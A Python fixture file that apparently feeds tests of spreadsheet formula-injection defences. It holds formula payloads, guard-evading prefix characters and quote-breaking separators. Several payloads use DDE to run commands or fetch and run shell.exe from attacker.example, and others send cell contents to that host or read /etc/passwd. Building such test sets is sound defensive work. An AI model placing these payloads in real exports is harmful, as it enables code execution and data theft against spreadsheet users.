"""What people have put into cells to make a spreadsheet run it: formulas, the ways to begin one, the ways round a guard."""

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("https://attacker.example/?leak="&A1&A2,"点我")',
    '=IMPORTXML(CONCAT("https://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTDATA("https://attacker.example/"&A1)',
    '=IMAGE("https://attacker.example/?"&A1)',
    '=WEBSERVICE("https://attacker.example/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "='file:///etc/passwd'#$passwd.A1",
    "={1+1}",
    "+1+cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@INDIRECT(A1)",
    "＝1+1",
    "＋1+1",
    "－1-1",
    "＠SUM(1)",
    "﹦1+1",
]
# Before the formula: what a spreadsheet, a trim or a badly written guard passes over.
BEFORE = {
    "nothing": "", "space": " ", "spaces": "    ", "tab": "\t", "return": "\r", "newline": "\n", "both": "\r\n",
    "no-break space": "\u00a0", "full-width space": "\u3000", "zero-width space": "\u200b", "byte-order mark": "\ufeff",
    "right-to-left": "\u202e", "apostrophe": "'", "two apostrophes": "''", "space and apostrophe": " '",
}  # fmt: skip
# In the middle of a text: a cell of its own for a program that takes another separator, or that closes the quotes.
INSIDE = ["王;{}", "王;{};", "王\t{}", "王\n{}", "王\r\n{}", '王",{}', '"{}"', '","{}","', "王, {}", '";{}']
PLAIN = [
    "王建国", "O'Neill", "a=b", "1-2", "a@b.example", "'", "''", "", " ", "京A·12345", "#REF!", "TRUE", "007",
    "13800001234", "1E5", "2026-11-22", "1/2", "0x1F", "http://example.com", "mailto:a@b.example", "_x0041_",
    "<f>1+1</f>", "]]>", "&amp;", "😀", "\u202eabc", "a" * 32_767,
]  # fmt: skip
ATTACKS = {
    **{f"{name}: {formula}": before + formula for name, before in BEFORE.items() for formula in FORMULAS},
    **{f"inside {form!r}: {formula}": form.format(formula) for form in INSIDE for formula in FORMULAS[:14:3]},
}
